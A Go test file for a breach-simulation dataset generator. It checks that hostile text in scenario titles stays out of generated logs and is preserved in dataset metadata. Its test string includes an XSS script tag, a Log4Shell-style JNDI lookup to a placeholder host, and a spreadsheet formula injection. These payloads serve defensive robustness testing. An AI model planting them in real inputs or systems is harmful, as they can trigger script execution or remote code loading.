package dataset_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/breachsim/breachsim/generator"
	"github.com/breachsim/breachsim/output"
	"github.com/breachsim/breachsim/output/dataset/datasettest"
)

// hostileTitle has what breaks careless writers; control characters a scenario
// refuses.
const hostileTitle = "\"quoted\" 'é' \\n \\N %41 a,b;c\t|d {\"@id\": \"x\"} ]=\" --> <script>alert(1)</script> `x` \u2028 日本 ${jndi:ldap://x.example} =1+1"

// TestHostileScenario writes a scenario whose free texts are hostile, in every
// format. No log says another byte for it; what does repeat the texts stays whole
// and gives them back as they were.
func TestHostileScenario(t *testing.T) {
	title := strings.ReplaceAll(hostileTitle, "\t", " ")
	quoted, err := json.Marshal(title) // a double-quoted text of YAML too
	if err != nil {
		t.Fatal(err)
	}
	o := output.Options{Formats: allFormats(), Labels: []string{"lines", "windows"}}
	plain := datasettest.Write(t, "tiny", generator.Options{}, o)
	hostile := datasettest.Write(t, "tiny", generator.Options{}, o, "scenario.title="+string(quoted), "scenario.summary="+string(quoted), "scenario.story="+string(quoted))

	before, err := output.ReadManifest(plain)
	if err != nil {
		t.Fatal(err)
	}
	digests := map[string]string{}
	for _, f := range before.Files {
		digests[f.Path] = f.SHA256
	}
	after, err := output.ReadManifest(hostile)
	if err != nil {
		t.Fatal(err)
	}
	logs := 0
	for _, f := range after.Files {
		if !strings.HasPrefix(f.Path, "logs/") {
			continue
		}
		logs++
		if digests[f.Path] != f.SHA256 {
			t.Errorf("%s says something of the scenario's texts", f.Path)
		}
	}
	if logs < len(allFormats()) {
		t.Errorf("only %d files of logs", logs)
	}
	if about := croissantAbout(t, hostile); !strings.Contains(about, title) {
		t.Errorf("croissant.json says %q, want %q in it", about, title)
	}
	bundle := readBundle(t, hostile)
	if len(bundle.Objects) == 0 {
		t.Error("an empty bundle")
	}
}

func croissantAbout(t *testing.T, dir string) string {
	t.Helper()
	text, err := os.ReadFile(filepath.Join(dir, "croissant.json"))
	if err != nil {
		t.Fatal(err)
	}
	var top struct{ Description string }
	if err := json.Unmarshal(text, &top); err != nil {
		t.Fatal(err)
	}
	return top.Description
}
